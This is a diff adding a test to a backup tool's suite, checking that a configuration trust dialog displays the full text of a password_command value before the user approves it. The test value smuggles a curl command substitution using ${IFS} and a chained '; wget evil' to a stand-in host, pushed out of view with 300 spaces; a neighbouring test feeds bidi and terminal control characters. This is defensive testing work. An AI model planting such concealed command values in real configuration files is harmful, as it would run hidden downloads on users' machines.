@@ -164,6 +164,26 @@ async def test_a_file_that_changes_while_the_question_is_open_is_not_approved(
     assert thief.connections == 0
 
 
+async def test_nothing_of_what_is_approved_can_be_hidden(root: Path, thief: PasswordCatcher) -> None:
+    """Neither as what looks like a secret, nor behind a long line, nor below the edge of the screen."""
+    hidden = 'sh -c "x://$(curl${IFS}evil)@b' + " " * 300 + '; wget evil"'
+    write(root, thief, f"password_command = '{hidden}'\n[backup]\ndirectory = '/the/last/one'\n")
+    async with over(root).run_test(size=(80, 24)) as pilot:
+        await until_asked(pilot)
+        seen = ""
+        await pilot.press("tab")
+        while isinstance(pilot.app.screen, TrustDialog):
+            seen += shown(pilot)
+            assert not load(root).trusted
+            await pilot.press("enter")
+            await still(pilot, 3)
+        assert "$(curl${IFS}evil)" in seen
+        assert "; wget evil" in seen
+        assert "/the/last/one" in seen
+        assert "there is more below" in seen
+        await until(pilot, lambda: load(root).trusted)
+
+
 async def test_hostile_values_are_shown_as_text(root: Path, thief: PasswordCatcher) -> None:
     write(root, thief, '[backup]\ndirectory = "/x/\\u202e[/bold]\\u009b31m' + "y" * 300 + '"\n')
     async with over(root).run_test(size=(80, 24)) as pilot:
